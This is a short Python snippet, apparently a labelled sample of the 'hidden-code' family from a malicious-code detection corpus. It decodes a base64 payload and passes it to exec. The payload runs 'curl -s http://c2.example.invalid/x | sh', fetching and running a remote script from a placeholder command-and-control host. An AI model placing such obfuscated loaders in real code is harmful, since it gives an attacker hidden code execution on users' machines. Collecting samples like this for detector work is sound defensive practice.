# family: hidden-code
# base64-encoded source decoded and passed to exec
import base64

payload = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgLXMgaHR0cDovL2MyLmV4YW1wbGUuaW52YWxpZC94IHwgc2giKQ=="
exec(base64.b64decode(payload).decode())
